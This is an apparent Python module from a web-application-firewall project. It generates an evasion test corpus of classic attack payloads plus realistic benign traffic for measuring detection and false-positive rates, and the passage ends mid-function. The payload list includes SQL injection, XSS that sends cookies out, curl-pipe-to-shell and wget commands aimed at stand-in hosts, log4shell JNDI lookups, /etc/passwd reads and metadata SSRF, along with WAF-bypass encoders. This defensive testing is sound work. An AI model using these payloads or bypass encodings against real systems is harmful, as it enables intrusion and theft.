"""Adversarial quality corpora — evasion transforms + realistic benign.

VERDICT r03 missing #3: the stock corpus (`utils/corpus.py`) is generated
from the same family definitions the rules were authored against, so
F1=1.0 on it is nearly tautological.  This module provides the
NON-self-referential side of the evaluation, modeled on how the reference
is actually attacked in the field (SURVEY.md §4 WAF smoke tier — known
payloads fired through the deployed ingress):

* ``classic_payloads()`` — well-known public attack strings (sqlmap-,
  XSS-cheat-sheet-, shellshock-, log4shell-style).  None of them are
  drawn from ``compiler/sigpack.py`` templates or ``rules/crs/*.conf``
  regexes; several are deliberately phrased differently from anything a
  rule template expands to.
* evasion transforms — the classic WAF-bypass encodings: double URL
  encoding, overlong UTF-8, HTML-entity splicing, SQL comment splitting
  (``UN/**/ION``), case churn, whitespace churn, null-byte splicing,
  %uXXXX IIS-style encoding.  Applied alone and in aggressive pairs.
* ``generate_benign(n)`` — ≥10k realistic non-attack requests (form
  posts, JSON APIs, base64-blob cookies, JWTs, natural language that
  *mentions* SQL keywords, HTML-ish prose, code snippets in paste
  bodies) for a false-positive-rate measurement.

The output feeds ``utils/quality_report.py`` (the quality report).
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import re
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from ingress_plus_tpu_torch.serve.normalize import Request
from ingress_plus_tpu_torch.utils.corpus import LabeledRequest, generate_corpus

# --------------------------------------------------------------------------
# Classic payloads (public-knowledge attack strings; NOT template output)
# --------------------------------------------------------------------------

#: (class, name, payload, context) — context steers placement + which
#: transforms make sense ("query" payloads survive URL encoding games;
#: "html" payloads are where entity splicing is realistic).
CLASSIC: List[Tuple[str, str, str, str]] = [
    # --- SQLi: sqlmap/boolean/union/time/error/stacked shapes
    ("sqli", "boolean_or", "x' OR 3*2=6 AND 000221=000221 --", "query"),
    ("sqli", "union_null", "') UNION SELECT NULL,NULL,NULL,NULL--", "query"),
    ("sqli", "union_cols",
     "-5305' UNION ALL SELECT 77,group_concat(schema_name),88 FROM "
     "information_schema.schemata#", "query"),
    ("sqli", "time_blind",
     "1' AND (SELECT 8555 FROM (SELECT(SLEEP(5)))abcd)-- qKzB", "query"),
    ("sqli", "error_extract",
     "' AND updatexml(rand(),concat(CHAR(126),version()),null)-- -", "query"),
    ("sqli", "stacked_shutdown", "1'; WAITFOR DELAY '0:0:5'--", "query"),
    ("sqli", "order_by_probe", "1' ORDER BY 9999-- -", "query"),
    ("sqli", "benchmark_blind",
     "1 AND BENCHMARK(5000000,MD5(0x414243))", "query"),
    ("sqli", "into_outfile",
     "' UNION SELECT 0x3c3f706870 INTO OUTFILE '/var/www/x.php'--", "query"),
    ("sqli", "pg_sleep", "'||(SELECT pg_sleep(5))||'", "query"),
    ("sqli", "hex_literal", "0x31 UNION SELECT load_file(0x2f6574632f706173737764)",
     "query"),
    ("sqli", "having_probe", "1 HAVING 1=1", "query"),
    # --- XSS: cheat-sheet shapes
    ("xss", "img_onerror_tick", "<img src=`x` onerror=alert(document.domain)>",
     "html"),
    ("xss", "svg_animate",
     "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "html"),
    ("xss", "details_toggle", "<details open ontoggle=alert(origin)>", "html"),
    ("xss", "input_autofocus", "<input autofocus onfocus=alert(1)>", "html"),
    ("xss", "polyglot_jsfuck",
     "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//", "html"),
    ("xss", "template_literal", "<script>fetch(`//x.example/${document.cookie}`)"
     "</script>", "html"),
    ("xss", "marquee", "<marquee onstart=confirm(1)>", "html"),
    ("xss", "data_uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
     "query"),
    # --- RCE / command injection
    ("rce", "subshell_ifs", ";${IFS}cat${IFS}/etc/passwd", "query"),
    ("rce", "backtick_id", "`id>/tmp/o`", "query"),
    ("rce", "pipe_curl_sh", "||curl -s http://198.51.100.7/a|sh", "query"),
    ("rce", "shellshock_ua", "() { :;}; echo; /usr/bin/id", "header"),
    ("rce", "log4shell_lower",
     "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://198.51.100.7/x}",
     "query"),
    ("rce", "python_os", "__import__('os').popen('id').read()", "query"),
    ("rce", "busybox_wget", ";busybox wget http://198.51.100.7/mips -O /tmp/m",
     "query"),
    # --- LFI / path traversal
    ("lfi", "dotdot_16", "../" * 16 + "etc/passwd", "query"),
    ("lfi", "dotdot_backslash", "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
     "query"),
    ("lfi", "proc_cmdline", "/proc/self/cmdline", "query"),
    ("lfi", "zip_wrapper", "zip://upload/avatar.jpg%23shell.php", "query"),
    ("lfi", "expect_wrapper", "expect://id", "query"),
    # --- SSRF / RFI
    ("rfi", "metadata_alias", "http://[::ffff:169.254.169.254]/latest/meta-data/",
     "query"),
    ("rfi", "decimal_ip", "http://2130706433/admin", "query"),
    ("rfi", "dict_proto", "dict://127.0.0.1:11211/stats", "query"),
    # --- PHP injection
    ("php", "assert_call", "assert(stripos(file_get_contents('/etc/passwd'),'root'))",
     "query"),
    ("php", "preg_e", "preg_replace('/x/e','system(\"id\")','x')", "query"),
    # --- deserialization / java — context "b64": case/whitespace churn
    # would break the base64 magic server-side too, so those are not
    # evasions of THIS payload; only URL encoding survives a decode
    ("java", "ysoserial_prefix", "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u",
     "b64"),
    ("java", "el_injection", "${T(java.lang.Runtime).getRuntime().exec('id')}",
     "query"),
    # --- NoSQL
    ("sqli", "nosql_ne", '{"username": {"$ne": null}, "password": {"$ne": null}}',
     "body"),
    ("sqli", "nosql_where", '{"$where": "this.password.match(/^a/)"}', "body"),
    # --- carried inside JSON bodies (config #5 API traffic): placement
    # \u-escapes a random subset of letters, so detection depends on the
    # unpack stage's JSON unescape feeding the scan
    ("sqli", "json_union",
     "1' UNION SELECT username,password FROM users--", "json"),
    ("xss", "json_svg", "<svg onload=alert(document.domain)>", "json"),
    ("rce", "json_cmd", ";cat /etc/passwd #", "json"),
    ("java", "json_jndi", "${jndi:ldap://evil.example.com/a}", "json"),
    # --- multipart/form-data wrapping (922 family surface): the payload
    # hides inside a part body between boundary lines
    ("sqli", "mp_union", "x' OR 3*2=6 AND 000221=000221 --", "multipart"),
    ("xss", "mp_img", "<img src=x onerror=alert(document.cookie)>",
     "multipart"),
    ("lfi", "mp_path", "../../../../../etc/passwd", "multipart"),
]

# --------------------------------------------------------------------------
# Evasion transforms
# --------------------------------------------------------------------------


def _pct(b: int) -> str:
    return "%%%02x" % b


def t_urlencode_full(p: str, rng: random.Random) -> str:
    """Percent-encode every byte once (decoders un-do this; naive
    substring filters that never decode do not)."""
    return "".join(_pct(b) for b in p.encode("utf-8", "surrogateescape"))


def t_double_url(p: str, rng: random.Random) -> str:
    """Double URL encoding: %27 → %2527.  A WAF that decodes once sees
    ``%27``; the backend that decodes twice sees ``'``."""
    once = "".join(_pct(b) if not (chr(b).isalnum()) else chr(b)
                   for b in p.encode("utf-8", "surrogateescape"))
    return once.replace("%", "%25")


def t_overlong_utf8(p: str, rng: random.Random) -> str:
    """Overlong 2-byte UTF-8 of ASCII metacharacters, percent-encoded:
    ``'`` (0x27) → C0 A7 → %c0%a7.  Decoders that accept overlong forms
    (old IIS/PHP) map it back; strict decoders reject it."""
    out = []
    for ch in p:
        b = ord(ch)
        if b < 0x80 and not ch.isalnum() and rng.random() < 0.9:
            out.append("%%c%x%%%02x" % (b >> 6, 0x80 | (b & 0x3F)))
        else:
            out.append(ch)
    return "".join(out)


def t_html_entities(p: str, rng: random.Random) -> str:
    """Splice decimal/hex entities into HTML-context payloads:
    ``<img`` → ``<im&#x67;`` — browsers decode entities in attribute
    values; naive scanners see broken tokens."""
    out = []
    for ch in p:
        if ch.isalpha() and rng.random() < 0.3:
            out.append("&#x%x;" % ord(ch) if rng.random() < 0.5
                       else "&#%d;" % ord(ch))
        else:
            out.append(ch)
    return "".join(out)


_SQL_KEYWORDS = ("UNION", "SELECT", "FROM", "WHERE", "AND", "OR", "ORDER",
                 "INSERT", "UPDATE", "DELETE", "SLEEP", "BENCHMARK",
                 "WAITFOR", "HAVING", "union", "select", "from", "and", "or")


def t_sql_comment_split(p: str, rng: random.Random) -> str:
    """Classic ``UN/**/ION`` splitting: inline comments inside and between
    SQL keywords (MySQL versioned-comment dialects tolerate both)."""
    for kw in _SQL_KEYWORDS:
        if kw in p and len(kw) > 3:
            cut = rng.randrange(2, len(kw) - 1)
            p = p.replace(kw, kw[:cut] + "/**/" + kw[cut:], 1)
    return p.replace(" ", "/**/") if rng.random() < 0.5 else p


def t_case_churn(p: str, rng: random.Random) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in p)


_WS_SUBS = ["\t", "\n", "\r", "\x0b", "\x0c", "%09", "%0a", "%0d", "+"]


def t_whitespace_churn(p: str, rng: random.Random) -> str:
    return "".join(rng.choice(_WS_SUBS) if c == " " else c for c in p)


def t_null_splice(p: str, rng: random.Random) -> str:
    """%00 splicing — C-string-based scanners truncate at the NUL."""
    words = p.split(" ")
    out = []
    for w in words:
        if len(w) > 4 and rng.random() < 0.5:
            cut = rng.randrange(1, len(w))
            w = w[:cut] + "%00" + w[cut:]
        out.append(w)
    return " ".join(out)


def t_iis_unicode(p: str, rng: random.Random) -> str:
    """%uXXXX (IIS) encoding of metacharacters."""
    return "".join("%%u%04x" % ord(c) if not c.isalnum() and rng.random() < 0.8
                   else c for c in p)


TRANSFORMS: Dict[str, Callable[[str, random.Random], str]] = {
    "urlencode_full": t_urlencode_full,
    "double_url": t_double_url,
    "overlong_utf8": t_overlong_utf8,
    "html_entities": t_html_entities,
    "sql_comment_split": t_sql_comment_split,
    "case_churn": t_case_churn,
    "whitespace_churn": t_whitespace_churn,
    "null_splice": t_null_splice,
    "iis_unicode": t_iis_unicode,
}

#: which transforms are *realistic* for which payload context — entity
#: splicing a shell command is noise, not an evasion
_CTX_TRANSFORMS = {
    "query": ["urlencode_full", "double_url", "overlong_utf8",
              "sql_comment_split", "case_churn", "whitespace_churn",
              "null_splice", "iis_unicode"],
    "html": ["urlencode_full", "double_url", "html_entities", "case_churn",
             "whitespace_churn", "null_splice"],
    "body": ["case_churn", "whitespace_churn"],
    "header": ["case_churn", "whitespace_churn"],
    "b64": ["urlencode_full"],
    # json/multipart carriers: only mechanisms that survive those
    # encodings — URL-escape tricks (%00, %09) never decode inside a
    # JSON string or a multipart part, so splicing them there would
    # corrupt the payload while keeping its attack label (noise, not
    # evasion).  case churn survives any carrier; SQL comment splitting
    # targets the SQL sink, independent of the carrier.  The json
    # placement adds its own \uXXXX escaping on top.
    "json": ["case_churn", "sql_comment_split"],
    "multipart": ["case_churn", "sql_comment_split"],
}

#: aggressive second-stage pairings (first applied, then second)
_PAIRS = [
    ("case_churn", "urlencode_full"),
    ("sql_comment_split", "case_churn"),
    ("whitespace_churn", "double_url"),
    ("case_churn", "iis_unicode"),
    ("sql_comment_split", "urlencode_full"),
]


@dataclass
class EvasionSample:
    labeled: LabeledRequest
    base_name: str          # which CLASSIC payload
    transforms: Tuple[str, ...]


def _place(payload: str, context: str, cls: str, name: str, i: int,
           rng: random.Random) -> Request:
    headers = {"host": "shop.example.com",
               "user-agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0"}
    rid = "evasion-%s-%s-%d" % (cls, name, i)
    if context == "header":
        headers["user-agent"] = payload
        return Request(uri="/index.html", headers=headers, request_id=rid)
    if context == "json":
        # JSON-string escape with ~35% of letters \u-escaped: the scan
        # only sees the payload if unpack's extract_json unescapes it
        esc = []
        for ch in payload:
            if ch in '"\\':
                esc.append("\\" + ch)
            elif ch < " ":
                esc.append("\\u%04x" % ord(ch))
            elif ch.isalpha() and rng.random() < 0.35:
                esc.append("\\u%04x" % ord(ch))
            else:
                esc.append(ch)
        body = ('{"comment": "%s", "page": 3}' % "".join(esc)).encode(
            "utf-8", "surrogateescape")
        headers["content-type"] = "application/json"
        headers["content-length"] = str(len(body))
        return Request(method="POST", uri="/api/v1/comments",
                       headers=headers, body=body, request_id=rid)
    if context == "multipart":
        bnd = "----WebKitFormBoundary%08x" % rng.getrandbits(32)
        body = ("--%s\r\n"
                'Content-Disposition: form-data; name="comment"\r\n'
                "\r\n%s\r\n"
                "--%s\r\n"
                'Content-Disposition: form-data; name="page"\r\n'
                "\r\n3\r\n"
                "--%s--\r\n" % (bnd, payload, bnd, bnd)).encode(
                    "utf-8", "surrogateescape")
        headers["content-type"] = ("multipart/form-data; boundary=%s"
                                   % bnd)
        headers["content-length"] = str(len(body))
        return Request(method="POST", uri="/api/v1/upload",
                       headers=headers, body=body, request_id=rid)
    if context == "body" or (context == "query" and rng.random() < 0.3):
        body = ("comment=" + payload).encode("utf-8", "surrogateescape")
        headers["content-length"] = str(len(body))
        headers["content-type"] = "application/x-www-form-urlencoded"
        return Request(method="POST", uri="/api/v1/comments", headers=headers,
                       body=body, request_id=rid)
    return Request(uri="/search?q=" + payload.replace(" ", "+"),
                   headers=headers, request_id=rid)


def generate_evasion(seed: int = 20260730,
                     per_payload_singles: Optional[int] = None
                     ) -> List[EvasionSample]:
    """Every CLASSIC payload: plain, then each context-appropriate single
    transform, then the aggressive pairs.  Deterministic."""
    rng = random.Random(seed)
    out: List[EvasionSample] = []
    i = 0
    for cls, name, payload, context in CLASSIC:
        variants: List[Tuple[Tuple[str, ...], str]] = [((), payload)]
        singles = _CTX_TRANSFORMS[context]
        if per_payload_singles is not None:
            singles = singles[:per_payload_singles]
        for tname in singles:
            variants.append(((tname,), TRANSFORMS[tname](payload, rng)))
        for a, b in _PAIRS:
            if a in _CTX_TRANSFORMS[context] and b in _CTX_TRANSFORMS[context]:
                variants.append(
                    ((a, b), TRANSFORMS[b](TRANSFORMS[a](payload, rng), rng)))
        for tnames, text in variants:
            req = _place(text, context, cls, name, i, rng)
            out.append(EvasionSample(
                labeled=LabeledRequest(request=req, is_attack=True,
                                       attack_class=cls),
                base_name=name, transforms=tnames))
            i += 1
    return out


# --------------------------------------------------------------------------
# Benign corpus — realistic traffic that *stresses* the rules
# --------------------------------------------------------------------------

_NL_SENTENCES = [
    "I will select the best option from the union of both lists",
    "the committee decided to table the update until the next meeting",
    "please drop by the office and pick up your order",
    "we should group by category and then order by price",
    "script for the school play, act one scene two",
    "the alert was a false alarm, all systems normal",
    "insert coin to continue playing the arcade classic",
    "delete my account if I am inactive for two years",
    "where and when should we meet for coffee",
    "my password hint is my first cat's name",
    "use the concat function in the spreadsheet to join cells",
    "the etc folder on the shelf has misc paperwork",
    "wait for delay at the station, train was late",
    "on error the printer retries the current job",
    "x or y, and sometimes both, depending on the case",
]
_CODEY_SNIPPETS = [
    "for (let i = 0; i < n; i++) total += prices[i];",
    "SELECT is my favorite SQL keyword, said no one ever",
    "if x > 3 && y < 10 then print('ok') end",
    "a = b || c; // default fallback",
    "echo $PATH shows your shell search path",
    "df = df.groupby('region').agg({'sales': 'sum'})",
    "render(<App user={user} />, document.getElementById('root'))",
    "UPDATE 2026-07-30: release notes moved to /docs/changelog",
]
_JSON_BODIES = [
    lambda r: json.dumps({"name": r.choice(["Ana", "Bo", "Chen", "Dee"]),
                          "bio": r.choice(_NL_SENTENCES),
                          "age": r.randrange(18, 90)}),
    lambda r: json.dumps({"items": [{"sku": "K-%d" % r.randrange(999),
                                     "qty": r.randrange(1, 9)}
                                    for _ in range(r.randrange(1, 4))],
                          "coupon": "SAVE%d" % r.randrange(5, 50)}),
    lambda r: json.dumps({"query": r.choice(_NL_SENTENCES),
                          "filters": {"from": "2026-01-01",
                                      "price": {"lte": r.randrange(10, 500)}}}),
    lambda r: json.dumps({"paste": r.choice(_CODEY_SNIPPETS),
                          "lang": r.choice(["js", "sql", "sh", "py"])}),
    lambda r: json.dumps({"markdown": "# Notes\n\n* " +
                          "\n* ".join(r.sample(_NL_SENTENCES, 3))}),
]
_FORM_BODIES = [
    lambda r: "comment=" + r.choice(_NL_SENTENCES).replace(" ", "+") +
              "&rating=%d" % r.randrange(1, 6),
    lambda r: "title=" + r.choice(["Re: order", "Question", "5 < 10 deal"]
                                  )[:30].replace(" ", "+") +
              "&body=" + r.choice(_CODEY_SNIPPETS).replace(" ", "+").replace(
                  "&", "%26"),
    lambda r: "email=user%d@example.com&subscribe=on" % r.randrange(9999),
    lambda r: "address=12%2FB+Baker+Street%2C+Flat+3&city=London",
]


def _b64_blob(rng: random.Random, n: int) -> str:
    return base64.b64encode(bytes(rng.getrandbits(8) for _ in range(n))
                            ).decode().rstrip("=")


def _jwt(rng: random.Random) -> str:
    h = base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').decode(
        ).rstrip("=")
    p = base64.urlsafe_b64encode(json.dumps(
        {"sub": rng.randrange(10**6), "iat": 1753800000,
         "scope": "read write"}).encode()).decode().rstrip("=")
    return "%s.%s.%s" % (h, p, _b64_blob(rng, 32))


def generate_benign(n: int = 10_000, seed: int = 20260731
                    ) -> List[LabeledRequest]:
    """Realistic benign traffic for the FP-rate leg.  Heavier on the
    shapes that false-positive real WAFs: base64 cookie blobs (random
    bytes sail past b64 alphabets into rule territory once decoded),
    natural language with SQL keywords, code snippets in paste bodies,
    angle brackets in prose."""
    rng = random.Random(seed)
    out: List[LabeledRequest] = []
    for i in range(n):
        kind = rng.random()
        headers = {"host": "shop.example.com",
                   "user-agent": rng.choice([
                       "Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0",
                       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5) Safari/604.1",
                       "curl/8.5.0", "python-requests/2.32.0",
                       "Googlebot/2.1 (+http://www.google.com/bot.html)"])}
        if rng.random() < 0.55:
            headers["cookie"] = rng.choice([
                lambda: "session=%s" % _b64_blob(rng, rng.randrange(24, 96)),
                lambda: "jwt=%s" % _jwt(rng),
                lambda: "prefs=%s; _ga=GA1.2.%d.%d" % (
                    _b64_blob(rng, 12), rng.randrange(10**9),
                    rng.randrange(10**9)),
                lambda: "cart=" + "%2C".join(
                    "K-%d" % rng.randrange(999)
                    for _ in range(rng.randrange(1, 5))),
            ])()
        if rng.random() < 0.4:
            headers["referer"] = rng.choice([
                "https://www.google.com/search?q=best+laptop+2026",
                "https://shop.example.com/products?sort=-price&page=2",
                "https://news.site/article/a-select-few-unions-grow",
            ])
        method, uri, body = "GET", "/", b""
        if kind < 0.35:   # browsing / search
            uri = rng.choice([
                "/search?q=" + rng.choice(_NL_SENTENCES).replace(" ", "+"),
                "/products/%d?ref=%s" % (rng.randrange(10**5),
                                         _b64_blob(rng, 9)),
                "/blog/2026/%02d/%s" % (rng.randrange(1, 13),
                                        rng.choice(["scaling-etl",
                                                    "sql-vs-nosql",
                                                    "xss-prevention-guide"])),
                "/docs/api#select-endpoints",
                "/calendar?from=2026-07-01&to=2026-07-31&tz=Europe%2FBerlin",
                "/files/report%202026%20final.pdf",
            ])
        elif kind < 0.6:  # JSON API
            method = "POST"
            uri = rng.choice(["/api/v1/orders", "/api/v1/search",
                              "/api/v1/profiles", "/api/v2/pastes"])
            body = rng.choice(_JSON_BODIES)(rng).encode()
            headers["content-type"] = "application/json"
            headers["content-length"] = str(len(body))
        elif kind < 0.8:  # form post
            method = "POST"
            uri = rng.choice(["/comments", "/contact", "/newsletter",
                              "/account/address"])
            body = rng.choice(_FORM_BODIES)(rng).encode()
            headers["content-type"] = "application/x-www-form-urlencoded"
            headers["content-length"] = str(len(body))
        elif kind < 0.9:  # API GET with tokens
            uri = ("/api/v1/me?fields=name,email&access_token="
                   + _jwt(rng))
            headers["authorization"] = "Bearer " + _jwt(rng)
        else:             # static
            uri = rng.choice(["/static/app.%s.js" % _b64_blob(rng, 6),
                              "/images/hero@2x.png", "/favicon.ico",
                              "/fonts/inter-var.woff2"])
        out.append(LabeledRequest(
            request=Request(method=method, uri=uri, headers=headers,
                            body=body, request_id="benign-q-%d" % i),
            is_attack=False))
    return out


# ==========================================================================
# Seeded mutation harness — evadecheck's runtime twin
# ==========================================================================
# The CLASSIC leg above answers "do we catch well-known public payloads?".
# This section answers the harder question: does the
# GOLDEN corpus detection survive re-encoding?  Composable, deterministic,
# seeded payload mutators are applied to the golden attack corpus
# (utils/corpus.py generate_corpus, payload_mutator hook — identical rng
# draws, so placements never change), the mutants replay through
# ``DetectionPipeline.detect_cpu_only`` (exact confirm semantics, zero
# device dispatch), and each mutation FAMILY gets a retention score:
#
#     retention = detected(mutant) / detected(base)   over attacks the
#     family actually mutated (identity mutations are excluded from the
#     denominator — they would inflate retention for free).
#
# Families are SEMANTIC-PRESERVING per attack class and carrier: a
# %-encoded User-Agent is not a shellshock attack (no backend decodes
# header bytes), entity-splicing a shell command is noise — so each
# family declares which (class, carrier) pairs it may rewrite, mirroring
# _CTX_TRANSFORMS above.  Every family is held to a ≥0.95 retention
# floor, and analysis/evadecheck.py uses the per-escape rule attribution to
# corroborate its static findings.

#: gate families, in report order.  Each maps to a static evadecheck
#: check class: url/html/unicode → evade.transform-closure, comment/
#: whitespace → evade.literal-fragility, case → evade.case-hole,
#: split → evade.anchor-hazard (+ the future chunk-window seam).
MUTATION_FAMILIES: Tuple[str, ...] = (
    "case", "comment", "whitespace", "url", "html", "unicode", "split")

#: attack classes a family can rewrite without breaking the attack at
#: its sink (SQL keywords are case-insensitive; shell commands are NOT;
#: /**/ is a token separator only in SQL; entities only decode in an
#: HTML sink; %uXXXX only on IIS-era stacks, which serve SQLi/XSS
#: targets, not shell sinks).  java/nodejs are excluded from "case":
#: Java class names, JS identifiers and base64 gadget blobs are all
#: case-SENSITIVE — a flipped rO0AB… is not a serialized stream any
#: more (first probe run surfaced exactly those as false escapes).
_FAMILY_CLASSES: Dict[str, frozenset] = {
    "case": frozenset({"sqli", "xss", "php"}),
    "comment": frozenset({"sqli"}),
    "whitespace": frozenset({"sqli", "xss"}),
    "url": frozenset({"sqli", "xss", "lfi", "rce", "php", "rfi",
                      "traversal", "protocol", "nodejs", "java"}),
    "html": frozenset({"xss"}),
    "unicode": frozenset({"sqli", "xss"}),
    "split": frozenset({"sqli", "lfi"}),
}

#: carriers whose server-side decode chain actually undoes the family's
#: encoding (query/body/path values are url-decoded by every backend;
#: NOTHING decodes header bytes, so only byte-identity families apply
#: there).
_FAMILY_CARRIERS: Dict[str, frozenset] = {
    "case": frozenset({"query", "body", "path", "header"}),
    "comment": frozenset({"query", "body", "path"}),
    "whitespace": frozenset({"query", "body"}),
    "url": frozenset({"query", "body", "path"}),
    "html": frozenset({"query", "body"}),
    "unicode": frozenset({"query", "body", "path"}),
    "split": frozenset({"query", "body", "path"}),
}


def _m_case(p: str, rng: random.Random, carrier: str) -> str:
    """Case flip: ~half the letters swap case (keyword matchers without
    a case-folded lane lose them)."""
    return "".join(
        (c.lower() if c.isupper() else c.upper()) if c.isalpha()
        and rng.random() < 0.5 else c
        for c in p)


def _m_comment(p: str, rng: random.Random, carrier: str) -> str:
    """SQL inline comments as token separators: spaces → ``/**/``.
    Semantic-preserving (a comment separates SQL tokens exactly like
    whitespace); keyword SPLITTING (``UN/**/ION``) is deliberately not
    done — it breaks the statement on every mainstream SQL engine, so a
    miss there would be noise, not a detection gap."""
    return "".join("/**/" if c == " " and rng.random() < 0.8 else c
                   for c in p)


_WS_BYTES_SUBS = ["\t", "\n", "\r", "\x0b", "\x0c"]


def _m_whitespace(p: str, rng: random.Random, carrier: str) -> str:
    """Whitespace churn: spaces → tab/newline/VT/FF (SQL and HTML treat
    them all as separators; a regex requiring a literal 0x20 does not)."""
    return "".join(rng.choice(_WS_BYTES_SUBS) if c == " " else c
                   for c in p)


_PCT_SEQ = re.compile(r"%(?:[0-9a-fA-F]{2}|u[0-9a-fA-F]{4})")


def _m_url(p: str, rng: random.Random, carrier: str) -> str:
    """N-layer URL encoding.  Layer 1 percent-encodes every raw
    non-alnum byte (+ ~30% of letters); pre-existing ``%XX``/``%uXXXX``
    sequences pass through UNTOUCHED — re-encoding them would demand a
    decode layer the backend never performs, breaking the attack (first
    probe run produced exactly those triple-encoded false escapes).  In
    query/body carriers, and only when the payload carried no encoding
    of its own, a second layer (``%`` → ``%25``) rides on top ~half the
    time — the double-decode stacks t:urlDecodeUni exists for."""
    had_enc = bool(_PCT_SEQ.search(p))
    out = []
    i = 0
    while i < len(p):
        m = _PCT_SEQ.match(p, i)
        if m:
            out.append(m.group(0))
            i = m.end()
            continue
        ch = p[i]
        i += 1
        if ch.isalnum() and rng.random() >= 0.3:
            out.append(ch)
        elif carrier == "path" and ch == "/":
            out.append(ch)  # keep path structure routable
        else:
            out.append("".join(
                "%%%02x" % b
                for b in ch.encode("utf-8", "surrogateescape")))
    enc = "".join(out)
    if not had_enc and carrier in ("query", "body") and rng.random() < 0.5:
        enc = enc.replace("%", "%25")
    return enc


def _m_html(p: str, rng: random.Random, carrier: str) -> str:
    """HTML entity splicing (hex/decimal) over letters and the XSS
    metacharacters the browser decodes in attribute context."""
    out = []
    for c in p:
        if (c.isalpha() or c in "()=:") and rng.random() < 0.4:
            out.append("&#x%x;" % ord(c) if rng.random() < 0.5
                       else "&#%d;" % ord(c))
        else:
            out.append(c)
    return "".join(out)


def _m_unicode(p: str, rng: random.Random, carrier: str) -> str:
    """%uXXXX (IIS) encoding of metacharacters — lenient decoders map
    them back to the ASCII byte.  Pre-existing percent sequences pass
    through untouched (same single-decode-layer argument as _m_url)."""
    out = []
    i = 0
    while i < len(p):
        m = _PCT_SEQ.match(p, i)
        if m:
            out.append(m.group(0))
            i = m.end()
            continue
        c = p[i]
        i += 1
        if not c.isalnum() and c != " " and rng.random() < 0.8:
            out.append("%%u%04x" % ord(c))
        else:
            out.append(c)
    return "".join(out)


def _m_split(p: str, rng: random.Random, carrier: str) -> str:
    """Boundary splitting: NUL splices inside keywords (folded away by
    removeNulls after decode — the C-string truncation classic) plus a
    benign prefix pad (defeats ``^``/start-of-row anchoring and stands
    in for the chunk-boundary splits a windowed scan must stay
    closed under)."""
    words = p.split(" ")
    out = []
    for w in words:
        if len(w) > 4 and rng.random() < 0.6:
            cut = rng.randrange(1, len(w))
            nul = "%00" if carrier in ("query", "path") else "\x00"
            w = w[:cut] + nul + w[cut:]
        out.append(w)
    pad = rng.choice(["note ", "ref 12 ", "a "])
    return pad + " ".join(out)


_MUTATORS: Dict[str, Callable[[str, random.Random, str], str]] = {
    "case": _m_case,
    "comment": _m_comment,
    "whitespace": _m_whitespace,
    "url": _m_url,
    "html": _m_html,
    "unicode": _m_unicode,
    "split": _m_split,
}


def mutate_payload(payload: str, attack_class: str, carrier: str,
                   families: Sequence[str], seed: int = 0) -> str:
    """Apply each applicable family in order (composable).  Deterministic
    in (payload, class, carrier, families, seed) alone — per-payload rng
    reseeding makes the result independent of call order, so subsetting
    the corpus can never shift another payload's mutation."""
    for fam in families:
        if fam not in _MUTATORS:
            raise ValueError("unknown mutation family %r (known: %s)"
                             % (fam, ", ".join(MUTATION_FAMILIES)))
        if attack_class not in _FAMILY_CLASSES[fam]:
            continue
        if carrier not in _FAMILY_CARRIERS[fam]:
            continue
        key = "%d|%s|%s|%s|%s" % (seed, fam, attack_class, carrier, payload)
        rng = random.Random(key)
        payload = _MUTATORS[fam](payload, rng, carrier)
    return payload


def family_mutator(families: Sequence[str], seed: int = 0):
    """A ``utils.corpus.PayloadMutator`` applying ``families`` in order."""
    fams = tuple(families)

    def _mutate(payload: str, attack_class: str, carrier: str) -> str:
        return mutate_payload(payload, attack_class, carrier, fams, seed)

    return _mutate


def request_digest(requests: Sequence[Request]) -> str:
    """Canonical sha256 over a request list — the determinism pin (same
    seed ⇒ byte-identical corpus)."""
    h = hashlib.sha256()
    for r in requests:
        h.update(r.method.encode())
        h.update(b"\x00")
        h.update(r.uri.encode("utf-8", "surrogateescape"))
        h.update(b"\x00")
        for k in sorted(r.headers):
            h.update(("%s=%s" % (k, r.headers[k])).encode(
                "utf-8", "surrogateescape"))
            h.update(b"\x01")
        h.update(b"\x00")
        h.update(r.body)
        h.update(b"\x02")
    return h.hexdigest()


def _infer_carrier(req: Request) -> str:
    if req.body:
        return "body"
    if "?" in req.uri:
        return "query"
    if req.uri.startswith("/files/"):
        return "path"
    return "header"


def retention_score(base_detected: int, retained: int) -> float:
    """Family retention: retained / base-detected, 1.0 when the family
    mutated nothing it had detected (vacuously closed)."""
    if base_detected <= 0:
        return 1.0
    return retained / base_detected


def mutation_harness(pipeline, families: Optional[Sequence[str]] = None,
                     n: int = 1200, attack_fraction: float = 0.4,
                     corpus_seed: int = 20260729, seed: int = 20260807,
                     batch: int = 128, max_escape_records: int = 40) -> dict:
    """Replay the golden attack corpus, mutated per family, through
    ``pipeline.detect_cpu_only``; score per-family retention and record
    every escape with the base verdict's rule attribution (what
    evadecheck corroborates its static findings against).  The replay
    is the exact CPU path, so ``pipeline`` must be a CPU pipeline:
    ``detect_cpu_only`` raises on a card pipeline, and so does this."""
    families = list(families) if families is not None \
        else list(MUTATION_FAMILIES)
    golden = [lr for lr in generate_corpus(
        n=n, attack_fraction=attack_fraction, seed=corpus_seed)
        if lr.is_attack]
    base_reqs = [lr.request for lr in golden]

    def _detect(reqs):
        out = []
        for i in range(0, len(reqs), batch):
            out.extend(pipeline.detect_cpu_only(reqs[i:i + batch]))
        return out

    base_verdicts = _detect(base_reqs)
    base_attack = [v.attack for v in base_verdicts]

    fam_out: Dict[str, dict] = {}
    for fam in families:
        mutated = [lr for lr in generate_corpus(
            n=n, attack_fraction=attack_fraction, seed=corpus_seed,
            payload_mutator=family_mutator([fam], seed))
            if lr.is_attack]
        assert len(mutated) == len(golden)
        # only actually-mutated, base-detected attacks enter the score
        idx = [i for i in range(len(golden))
               if base_attack[i]
